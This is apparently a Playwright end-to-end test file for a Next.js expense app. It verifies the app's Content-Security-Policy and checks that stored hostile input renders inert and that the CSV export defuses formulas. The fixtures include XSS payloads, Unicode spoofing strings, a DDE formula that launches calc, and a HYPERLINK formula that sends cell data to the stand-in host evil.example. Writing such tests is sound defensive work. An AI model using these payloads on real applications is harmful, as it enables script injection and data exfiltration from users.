/**
 * The web app's Content-Security-Policy and what it protects, in real Chromium against the real stack:
 *
 * - every page carries a nonce-based policy (a fresh nonce per response, no 'unsafe-inline' for scripts), and
 *   every script Next.js writes into the page carries that nonce;
 * - a whole sign-up → confirm → sign-in → add expense → sign-out journey causes no violation, so Amplify's calls
 *   to Cognito and the app's calls to the API pass the policy;
 * - a control proves the violation watcher works (an injected inline script and event handler are refused and
 *   reported), so "no violation" can fail;
 * - hostile text stored through the API (descriptions, merchants, notes, tags, category names, display name) shows
 *   up as text on the dashboard, expenses (and the edit form), categories, budgets and settings, never as markup,
 *   and the CSV export of it is defused for spreadsheets.
 */
import { readFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { cognitoCall, type Stack } from '@spendwise/local-stack';
import { LOCAL_STACK_ENV } from '../src/lib/env';
import {
  confirmationCode,
  expect,
  PASSWORD,
  signIn,
  submitSignUp,
  test,
  type Account,
  uniqueEmail,
} from './fixtures';

const SIGNED_OUT_PAGES = ['/signin', '/signup', '/confirm-signup?email=someone%40example.com'];
const SIGNED_IN_PAGES = ['/dashboard', '/expenses', '/budgets', '/categories', '/settings'];

/** `directive → values` of a Content-Security-Policy header. */
function parsePolicy(header: string | undefined): Map<string, string[]> {
  expect(header, 'Content-Security-Policy header').toBeTruthy();
  return new Map(
    header!
      .split(';')
      .map((directive) => directive.trim().split(/\s+/))
      .filter((parts) => parts[0])
      .map(([name, ...values]) => [name!.toLowerCase(), values]),
  );
}

/** Checks one page response's policy and returns its nonce. */
function checkPolicy(headers: Record<string, string>, where: string): string {
  const policy = parsePolicy(headers['content-security-policy']);
  const scriptSrc = policy.get('script-src') ?? [];
  const nonces = scriptSrc.filter((value) => /^'nonce-[A-Za-z0-9+/]{22,}={0,2}'$/.test(value));
  expect(nonces, `${where}: one nonce in script-src (${scriptSrc.join(' ')})`).toHaveLength(1);
  expect(scriptSrc, where).toContain("'strict-dynamic'");
  expect(scriptSrc, where).not.toContain("'unsafe-inline'");
  expect(scriptSrc, where).not.toContain("'unsafe-eval'");
  expect(policy.get('default-src'), where).toEqual(["'self'"]);
  expect(policy.get('object-src'), where).toEqual(["'none'"]);
  expect(policy.get('frame-ancestors'), where).toEqual(["'none'"]);
  expect(policy.get('base-uri'), where).toEqual(["'self'"]);
  expect(policy.get('form-action'), where).toEqual(["'self'"]);
  expect(policy.get('connect-src'), where).toEqual([
    "'self'",
    new URL(LOCAL_STACK_ENV.NEXT_PUBLIC_API_URL).origin,
    new URL(LOCAL_STACK_ENV.NEXT_PUBLIC_COGNITO_ENDPOINT).origin,
  ]);
  expect(headers['x-content-type-options'], where).toBe('nosniff');
  expect(headers['referrer-policy'], where).toBe('strict-origin-when-cross-origin');
  expect(headers['permissions-policy'], where).toBe('camera=(), microphone=(), geolocation=()');
  return nonces[0]!.slice("'nonce-".length, -1);
}

/** Every `<script>` tag of the served HTML carries the response's nonce (Next.js reads it from the request). */
function expectScriptsNonced(html: string, nonce: string, where: string): number {
  const tags = html.match(/<script\b[^>]*>/g) ?? [];
  expect(tags.length, `${where}: scripts in the page`).toBeGreaterThan(0);
  for (const tag of tags)
    expect(tag, `${where}: a script without this response's nonce`).toContain(`nonce="${nonce}"`);
  return tags.length;
}

/** A figure for RELIABILITY.md: printed by the list reporter and kept in the HTML report. */
function report(figures: string): void {
  test.info().annotations.push({ type: 'figures', description: figures });
  console.log(`[figures] ${test.info().title}: ${figures}`);
}

interface Violation {
  directive: string;
  blockedURI: string;
  sample: string;
  page: string;
}

interface CspWatch {
  violations: Violation[];
  consoleErrors: string[];
  /** Waits until every violation the page has reported so far has been recorded here. */
  flush(): Promise<void>;
}

/**
 * Records CSP violations on every document the page loads: `securitypolicyviolation` events (listened for before
 * any of the page's scripts run) and Chromium's console reports ("Refused to … Content Security Policy").
 */
async function watchCsp(page: Page): Promise<CspWatch> {
  const watch: CspWatch = {
    violations: [],
    consoleErrors: [],
    flush: async () => {
      // Binding calls are handled in order: once this one returns, the earlier reports are recorded.
      await page.evaluate(() =>
        (window as unknown as { __reportCspViolation(v: null): Promise<void> }).__reportCspViolation(null),
      );
    },
  };
  await page.exposeFunction('__reportCspViolation', (violation: Violation | null) => {
    if (violation) watch.violations.push(violation);
  });
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      void (window as unknown as { __reportCspViolation(v: unknown): Promise<void> }).__reportCspViolation({
        directive: event.effectiveDirective,
        blockedURI: event.blockedURI,
        sample: event.sample,
        page: document.location.pathname,
      });
    });
  });
  page.on('console', (message) => {
    if (message.type() === 'error' && /content security policy/i.test(message.text())) {
      watch.consoleErrors.push(message.text());
    }
  });
  return watch;
}

async function expectNoViolations(watch: CspWatch): Promise<void> {
  await watch.flush();
  expect(watch.violations, 'securitypolicyviolation events').toEqual([]);
  expect(watch.consoleErrors, 'CSP errors in the console').toEqual([]);
}

test('every page is served with a nonce-based CSP, a new nonce per response, on all its scripts', async ({
  page,
  account,
}) => {
  const nonces = new Set<string>();
  let scripts = 0;
  const visit = async (path: string, expectedPath: string) => {
    const response = await page.goto(path);
    expect(response?.status(), path).toBe(200);
    await expect(page).toHaveURL((url) => url.pathname === expectedPath);
    const nonce = checkPolicy(response!.headers(), path);
    scripts += expectScriptsNonced(await response!.text(), nonce, path);
    // The theme script of the root layout is inline: it runs only because it carries the nonce.
    expect(
      await page
        .locator('head > script:not([src])')
        .first()
        .evaluate((script) => script.nonce),
    ).toBe(nonce);
    nonces.add(nonce);
  };

  for (const path of SIGNED_OUT_PAGES) await visit(path, new URL(path, 'http://x').pathname);
  await signIn(page, account);
  await expect(page).toHaveURL('/dashboard');
  for (const path of SIGNED_IN_PAGES) await visit(path, path);

  // The same page twice: two different nonces.
  const first = await page.request.get('/dashboard');
  const second = await page.request.get('/dashboard');
  const [a, b] = [
    checkPolicy(first.headers(), 'dashboard #1'),
    checkPolicy(second.headers(), 'dashboard #2'),
  ];
  expect(a).not.toBe(b);
  nonces.add(a).add(b);

  const pages = SIGNED_OUT_PAGES.length + SIGNED_IN_PAGES.length + 2;
  expect(nonces.size, 'one nonce per response').toBe(pages);
  report(`${pages} page responses, ${nonces.size} distinct nonces, ${scripts} script tags, all nonced`);
});

test('the violation watcher sees what the policy refuses (control for the tests below)', async ({ page }) => {
  const csp = await watchCsp(page);
  // Stored XSS as it would look had the server rendered it as markup: the served sign-in page gains an inline script
  // and an event-handler attribute (neither carries the nonce), and a script that does carry this response's nonce.
  // (A script element added through page.evaluate is no test: it ran despite the policy — Chromium exempts code
  // evaluated through DevTools.)
  await page.route('**/signin', async (route) => {
    const response = await route.fetch();
    const nonce = checkPolicy(response.headers(), '/signin');
    const record = (what: string) => `window.__ran=(window.__ran||[]).concat('${what}')`;
    const injected =
      `<script>${record('inline script')}</script>` +
      `<img src="/csp-control-missing.png" alt="" onerror="${record('onerror')}">` +
      `<script nonce="${nonce}">${record('nonced script')}</script>`;
    const headers = { ...response.headers() };
    delete headers['content-length'];
    delete headers['content-encoding'];
    await route.fulfill({
      status: response.status(),
      headers,
      body: (await response.text()).replace('</body>', `${injected}</body>`),
    });
  });
  await page.goto('/signin');
  await expect(page.getByRole('heading', { name: 'Sign in' })).toBeVisible();

  await expect
    .poll(async () => {
      await csp.flush();
      return csp.violations.map((violation) => `${violation.directive} ${violation.blockedURI}`).sort();
    })
    .toEqual(['script-src-attr inline', 'script-src-elem inline']);
  expect(await page.evaluate(() => (window as unknown as { __ran?: string[] }).__ran)).toEqual([
    'nonced script',
  ]);
  expect(csp.consoleErrors.length, 'Chromium reports both refusals in the console').toBeGreaterThanOrEqual(2);
});

test('a whole journey through Cognito and the API causes no CSP violation', async ({ page, stack }) => {
  const csp = await watchCsp(page);
  const calls = { cognito: 0, api: 0, app: 0 };
  // The origins the browser calls (the build's configuration), as the policy lists them.
  const cognitoOrigin = new URL(LOCAL_STACK_ENV.NEXT_PUBLIC_COGNITO_ENDPOINT).origin;
  const apiOrigin = new URL(LOCAL_STACK_ENV.NEXT_PUBLIC_API_URL).origin;
  page.on('requestfinished', (request) => {
    const origin = new URL(request.url()).origin;
    if (origin === cognitoOrigin) calls.cognito += 1;
    else if (origin === apiOrigin) calls.api += 1;
    else calls.app += 1;
  });
  const blocked: string[] = [];
  page.on('requestfailed', (request) => {
    if (/csp|blocked/i.test(request.failure()?.errorText ?? '')) blocked.push(request.url());
  });
  const email = uniqueEmail('csp');

  await test.step('sign up', async () => {
    await submitSignUp(page, email);
    await expect(page).toHaveURL((url) => url.pathname === '/confirm-signup');
  });

  await test.step('confirm with the emailed code (signs in, opens the dashboard)', async () => {
    await page.getByLabel('Verification code').fill(await confirmationCode(stack, email));
    await page.getByRole('button', { name: 'Confirm and continue' }).click();
    await expect(page).toHaveURL('/dashboard');
    await expect(page.getByRole('heading', { name: 'Welcome to SpendWise' })).toBeVisible();
  });

  await test.step('sign out and sign in again (SRP against Cognito)', async () => {
    await page.getByRole('button', { name: 'Sign out' }).click();
    await expect(page).toHaveURL('/signin');
    await signIn(page, { email, password: PASSWORD });
    await expect(page).toHaveURL('/dashboard');
    await expect(page.getByTestId('current-user')).toContainText(email);
  });

  await test.step('add an expense: dialog, form, charts', async () => {
    await page.getByRole('button', { name: 'Add your first expense' }).click();
    const dialog = page.getByRole('dialog', { name: 'Add expense' });
    await dialog.getByLabel('Amount (USD)').fill('7.25');
    await dialog.getByLabel('Description').fill('Strict policy coffee');
    await dialog.getByLabel('Category').selectOption({ label: 'Groceries' });
    await dialog.getByRole('button', { name: 'Add expense' }).click();
    await expect(dialog).toBeHidden();
    await expect(page.getByTestId('month-total')).toHaveText('$7.25');
    await expect(page.locator('.recharts-bar-rectangle').first()).toBeVisible();
  });

  await test.step('every signed-in page, by the navigation links', async () => {
    for (const name of ['Expenses', 'Budgets', 'Categories', 'Settings', 'Dashboard']) {
      await page.getByRole('link', { name, exact: true }).click();
      await expect(page).toHaveURL(`/${name.toLowerCase()}`);
      await expect(page.getByRole('heading', { level: 1, name })).toBeVisible();
    }
    await page.reload();
    await expect(page.getByTestId('month-total')).toHaveText('$7.25');
  });

  await test.step('sign out', async () => {
    await page.getByRole('button', { name: 'Sign out' }).click();
    await expect(page).toHaveURL('/signin');
  });

  await expectNoViolations(csp);
  expect(blocked, 'requests the browser refused').toEqual([]);
  // The journey really went through both origins the policy had to let through.
  expect(calls.cognito).toBeGreaterThan(0);
  expect(calls.api).toBeGreaterThan(0);
  report(
    `0 violations; ${calls.cognito} Cognito calls, ${calls.api} API calls, ${calls.app} requests to the app`,
  );
});

// ——— Stored XSS ———

const IMG = '<img src=x onerror="window.__xss=1">';
const SCRIPT = '<script>window.__xss=2</script>';
const SVG = '"><svg onload=window.__xss=3>';
const JS_URL = 'javascript:alert(1)';
/** Right-to-left override and isolates, zero-width characters, Arabic and Hebrew. */
const UNICODE =
  'Invoice \u202Efdp.exe\u202C zero\u200Bwidth\u200Cjoiner\u200D \u2067مرحبا بالعالم\u2069 \u200Fשלום עולם\u200E ' +
  'ok\u2060\uFEFFend '.repeat(12) +
  'done';
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
const CATEGORY_IMG = IMG;
const DISPLAY_NAME = `${SCRIPT} ${IMG}`;
const CATEGORY_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0";

interface StoredExpense {
  description: string;
  merchant: string | null;
  note: string | null;
  tags: string[];
  category: string | null;
}

const HOSTILE_EXPENSES: StoredExpense[] = [
  {
    description: FORMULA,
    merchant: '+SUM(1,1)',
    note: '-2+3',
    tags: ['@sum(a1)'],
    category: CATEGORY_FORMULA,
  },
  { description: UNICODE, merchant: IMG, note: FORMULA, tags: ['-1+1'], category: null },
  { description: JS_URL, merchant: '=1+2', note: JS_URL, tags: [JS_URL], category: CATEGORY_FORMULA },
  { description: SVG, merchant: JS_URL, note: UNICODE, tags: ['+cmd'], category: CATEGORY_IMG },
  { description: SCRIPT, merchant: SVG, note: IMG, tags: ['<b>bold</b>'], category: CATEGORY_IMG },
  {
    description: IMG,
    merchant: SCRIPT,
    note: `${SVG} ${SCRIPT} ${JS_URL}`,
    tags: ['<img src=x onerror=alert(1)>', '"><svg onload=alert(2)>'],
    category: CATEGORY_IMG,
  },
];

async function accessToken(stack: Stack, account: Account): Promise<string> {
  const { AuthenticationResult } = (await cognitoCall(stack.urls.cognito, 'InitiateAuth', {
    ClientId: LOCAL_STACK_ENV.NEXT_PUBLIC_COGNITO_CLIENT_ID,
    AuthFlow: 'USER_PASSWORD_AUTH',
    AuthParameters: { USERNAME: account.email, PASSWORD: account.password },
  })) as { AuthenticationResult: { AccessToken: string } };
  return AuthenticationResult.AccessToken;
}

/**
 * Stores the hostile categories, expenses, display name and a budget straight through the API; returns the
 * category ids.
 */
async function storeHostileData(stack: Stack, account: Account): Promise<Map<string, string>> {
  const token = await accessToken(stack, account);
  const call = async (method: string, path: string, body: unknown, status: number) => {
    const response = await fetch(`${stack.urls.api}${path}`, {
      method,
      headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
      body: JSON.stringify(body),
    });
    const text = await response.text();
    expect(response.status, `${method} ${path}: ${text}`).toBe(status);
    return JSON.parse(text) as Record<string, unknown>;
  };
  const categoryIds = new Map<string, string>();
  for (const name of [CATEGORY_IMG, CATEGORY_FORMULA]) {
    const category = await call('POST', '/categories', { name, color: '#7c3aed' }, 201);
    expect(category.name, 'stored as sent').toBe(name);
    categoryIds.set(name, category.id as string);
  }
  const today = new Date().toISOString().slice(0, 10);
  for (const [index, expense] of HOSTILE_EXPENSES.entries()) {
    const stored = await call(
      'POST',
      '/expenses',
      {
        amountMinor: 1000 + index,
        occurredOn: today,
        description: expense.description,
        merchant: expense.merchant,
        note: expense.note,
        tags: expense.tags,
        categoryId: expense.category === null ? null : categoryIds.get(expense.category),
      },
      201,
    );
    expect(
      [stored.description, stored.merchant, stored.note, stored.tags],
      'stored as sent (tags lower-cased)',
    ).toEqual([
      expense.description,
      expense.merchant,
      expense.note,
      expense.tags.map((t) => t.toLowerCase()),
    ]);
  }
  const me = await call('PATCH', '/me', { displayName: DISPLAY_NAME }, 200);
  expect(me.displayName, 'stored as sent').toBe(DISPLAY_NAME);
  // A small budget, so the dashboard names the hostile category in its over-budget alert too.
  await call('PUT', '/budgets', { categoryId: categoryIds.get(CATEGORY_IMG), amountMinor: 100 }, 201);
  return categoryIds;
}

/** Nothing stored became markup or ran: no payload element, no handler attribute, no script, no dialog. */
async function expectInert(page: Page, dialogs: string[], where: string): Promise<void> {
  const found = await page.evaluate(() => {
    const all = [...document.querySelectorAll('*')];
    return {
      xss: (window as unknown as { __xss?: unknown }).__xss ?? null,
      payloadElements: document.querySelectorAll('img[src="x"], svg[onload], b').length,
      handlerAttributes: all.flatMap((element) =>
        [...element.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${element.tagName} ${a.name}`),
      ),
      javascriptLinks: document.querySelectorAll('[href^="javascript:" i], [src^="javascript:" i]').length,
      // Server-rendered pages carry their data in Next's flight scripts (`self.__next_f.push(...)`), as JSON inside
      // a JS string: the stored text is there, inert. Any other script holding it, or a flight script holding it
      // as raw markup (an unescaped `<`, which could end the script early), is a failure.
      payloadScripts: [...document.scripts].filter(
        (script) => script.text.includes('window.__xss') && !script.text.startsWith('self.__next_f.push('),
      ).length,
      rawMarkupInFlightData: [...document.scripts].filter(
        (script) => script.text.startsWith('self.__next_f.push(') && /<(img|script|svg)\b/i.test(script.text),
      ).length,
    };
  });
  expect(found, where).toEqual({
    xss: null,
    payloadElements: 0,
    handlerAttributes: [],
    javascriptLinks: 0,
    payloadScripts: 0,
    rawMarkupInFlightData: 0,
  });
  expect(dialogs, `${where}: dialogs`).toEqual([]);
}

/** RFC 4180: quoted fields may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 1;
    } else field += char;
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}

test('stored hostile text renders as text everywhere, and its CSV export is inert', async ({
  page,
  stack,
  account,
}) => {
  await storeHostileData(stack, account);
  const csp = await watchCsp(page);
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await signIn(page, account);
  await expect(page).toHaveURL('/dashboard');
  const descriptions = HOSTILE_EXPENSES.map((expense) => expense.description);
  let inertChecks = 0;
  const inert = async (where: string) => {
    inertChecks += 1;
    await expectInert(page, dialogs, where);
  };
  let csvCells = 0;
  let csvDefused = 0;

  await test.step('dashboard: recent expenses, category totals, budget alert', async () => {
    const recent = page.getByRole('list', { name: 'Recent expenses' }).getByTestId('expense-row');
    await expect(recent).toHaveCount(5);
    // Inert first: a payload that became markup fails here with what it created.
    await inert('dashboard');
    // The header (on every signed-in page) shows the display name.
    await expect(page.getByTestId('current-user')).toContainText(DISPLAY_NAME);
    for (const text of await recent.allTextContents()) {
      expect(
        descriptions.some((description) => text.startsWith(description)),
        text,
      ).toBe(true);
    }
    const recentList = page.getByRole('list', { name: 'Recent expenses' });
    await expect(recentList.getByText(IMG, { exact: true })).toBeVisible();
    await expect(recentList.getByText(SCRIPT, { exact: true })).toBeVisible();
    await expect(page.getByTestId('category-total').filter({ hasText: CATEGORY_IMG })).toBeVisible();
    await expect(page.getByTestId('category-total').filter({ hasText: CATEGORY_FORMULA })).toBeVisible();
    await expect(page.getByRole('alert').filter({ hasText: 'Budget check' })).toContainText(
      `Over budget: ${CATEGORY_IMG}.`,
    );
  });

  await test.step('expenses: every field of every row as text', async () => {
    await page.getByRole('link', { name: 'Expenses', exact: true }).click();
    await expect(page).toHaveURL('/expenses');
    const rows = page.getByRole('list', { name: 'Expenses' }).getByTestId('expense-row');
    await expect(rows).toHaveCount(HOSTILE_EXPENSES.length);
    await inert('expenses');
    // A row's text starts with its description (the colour swatch before it is empty).
    const texts = await rows.allTextContents();
    for (const expense of HOSTILE_EXPENSES) {
      const row = texts.find((text) => text.startsWith(expense.description));
      expect(row, `a row shows ${expense.description}`).toBeDefined();
      if (expense.merchant) expect(row).toContain(expense.merchant);
      expect(row).toContain(expense.category ?? 'Uncategorised');
    }
    const list = page.getByRole('list', { name: 'Expenses' });
    for (const text of [IMG, SCRIPT, SVG, JS_URL, FORMULA]) {
      await expect(list.getByText(text, { exact: true })).toBeVisible();
    }
  });

  await test.step('expenses: the edit form holds the stored text as values', async () => {
    const rows = page.getByRole('list', { name: 'Expenses' }).getByTestId('expense-row');
    const texts = await rows.allTextContents();
    for (const expense of [HOSTILE_EXPENSES[5]!, HOSTILE_EXPENSES[3]!, HOSTILE_EXPENSES[1]!]) {
      const index = texts.findIndex((text) => text.startsWith(expense.description));
      await rows
        .nth(index)
        .getByRole('button', { name: /^Edit / })
        .click();
      const dialog = page.getByRole('dialog', { name: 'Edit expense' });
      await expect(dialog.getByLabel('Description')).toHaveValue(expense.description);
      await expect(dialog.getByLabel('Merchant (optional)')).toHaveValue(expense.merchant ?? '');
      await expect(dialog.getByLabel('Note (optional)')).toHaveValue(expense.note ?? '');
      await expect(dialog.getByLabel('Tags (optional)')).toHaveValue(
        expense.tags.map((tag) => tag.toLowerCase()).join(', '),
      );
      const chosen = dialog.getByLabel('Category').locator('option:checked');
      expect(await chosen.textContent()).toBe(expense.category ?? 'Uncategorised');
      await inert(`edit form of ${expense.description}`);
      await dialog.getByRole('button', { name: 'Cancel' }).click();
      await expect(dialog).toBeHidden();
    }
  });

  await test.step('the CSV export keeps the text and defuses formulas', async () => {
    const download = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Export CSV' }).click();
    const [header, ...rows] = parseCsv(
      (await readFile(await (await download).path(), 'utf8')).replace(/^\uFEFF/, ''),
    );
    expect(header).toEqual([
      'Date',
      'Description',
      'Merchant',
      'Category',
      'Amount',
      'Currency',
      'Amount in base currency',
      'Base currency',
      'Rates used',
      'Not converted because',
      'Tags',
      'Note',
      'Id',
      'Created at',
    ]);
    expect(rows).toHaveLength(HOSTILE_EXPENSES.length);
    // No cell a spreadsheet would evaluate: = + - @ (and tab / carriage return) at the start are prefixed with '.
    const dangerous = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(dangerous).toEqual([]);
    csvCells = rows.flat().length;
    csvDefused = rows.flat().filter((cell) => /^'[=+\-@]/.test(cell)).length;
    const defused = (text: string) => (/^[=+\-@]/.test(text) ? `'${text}` : text);
    for (const expense of HOSTILE_EXPENSES) {
      const row = rows.find((cells) => cells[1] === defused(expense.description));
      expect(row, `the export has ${expense.description}`).toBeDefined();
      expect(row![2]).toBe(defused(expense.merchant ?? ''));
      expect(row![3]).toBe(expense.category === null ? '' : defused(expense.category));
      expect(row![10]).toBe(defused(expense.tags.map((tag) => tag.toLowerCase()).join(';')));
      expect(row![11]).toBe(defused(expense.note ?? ''));
    }
  });

  await test.step('categories: names as text, and in the rename form', async () => {
    await page.getByRole('link', { name: 'Categories', exact: true }).click();
    await expect(page).toHaveURL('/categories');
    const yours = page.getByRole('region', { name: 'Your categories' });
    await expect(yours.getByRole('button', { name: `Edit ${CATEGORY_IMG}`, exact: true })).toBeVisible();
    await inert('categories');
    await expect(yours.getByText(CATEGORY_IMG, { exact: true })).toBeVisible();
    await expect(yours.getByText(CATEGORY_FORMULA, { exact: true })).toBeVisible();
    await yours.getByRole('button', { name: `Edit ${CATEGORY_IMG}`, exact: true }).click();
    const rename = yours.getByRole('form', { name: `Save ${CATEGORY_IMG}`, exact: true });
    await expect(rename.getByLabel('Name')).toHaveValue(CATEGORY_IMG);
    await inert('category rename form');
  });

  await test.step('budgets: category names as labels', async () => {
    await page.getByRole('link', { name: 'Budgets', exact: true }).click();
    await expect(page).toHaveURL('/budgets');
    const budget = page.getByRole('form', { name: `${CATEGORY_IMG} budget`, exact: true });
    await expect(budget).toBeVisible();
    await expect(budget.getByText(CATEGORY_IMG, { exact: true })).toBeVisible();
    await expect(page.getByRole('form', { name: `${CATEGORY_FORMULA} budget`, exact: true })).toBeVisible();
    await inert('budgets');
  });

  await test.step('settings: the display name in the form', async () => {
    await page.getByRole('link', { name: 'Settings', exact: true }).click();
    await expect(page).toHaveURL('/settings');
    await expect(page.getByLabel('Display name')).toHaveValue(DISPLAY_NAME);
    await inert('settings');
  });

  await test.step('a reload of each page, without client navigation, is just as inert', async () => {
    // Each page once its stored text is on screen.
    const loaded: Record<string, () => Promise<void>> = {
      '/dashboard': () =>
        expect(page.getByRole('list', { name: 'Recent expenses' }).getByTestId('expense-row')).toHaveCount(5),
      '/expenses': () =>
        expect(page.getByRole('list', { name: 'Expenses' }).getByTestId('expense-row')).toHaveCount(
          HOSTILE_EXPENSES.length,
        ),
      '/categories': () =>
        expect(
          page.getByRole('region', { name: 'Your categories' }).getByText(CATEGORY_IMG, { exact: true }),
        ).toBeVisible(),
      '/budgets': () =>
        expect(page.getByRole('form', { name: `${CATEGORY_IMG} budget`, exact: true })).toBeVisible(),
      '/settings': () => expect(page.getByLabel('Display name')).toHaveValue(DISPLAY_NAME),
    };
    for (const [path, isLoaded] of Object.entries(loaded)) {
      await page.goto(path);
      await isLoaded();
      await expect(page.getByTestId('current-user')).toContainText(DISPLAY_NAME);
      await inert(`${path} (loaded)`);
    }
  });

  // With the policy also refusing inline handlers, a payload that became markup would have shown up here too.
  await expectNoViolations(csp);
  report(
    `${HOSTILE_EXPENSES.length} expenses, 2 categories and a display name of hostile text; ` +
      `${inertChecks} page states inert, ` +
      `0 dialogs, 0 violations; CSV: ${csvCells} cells, ${csvDefused} formula cells defused, 0 live`,
  );
});
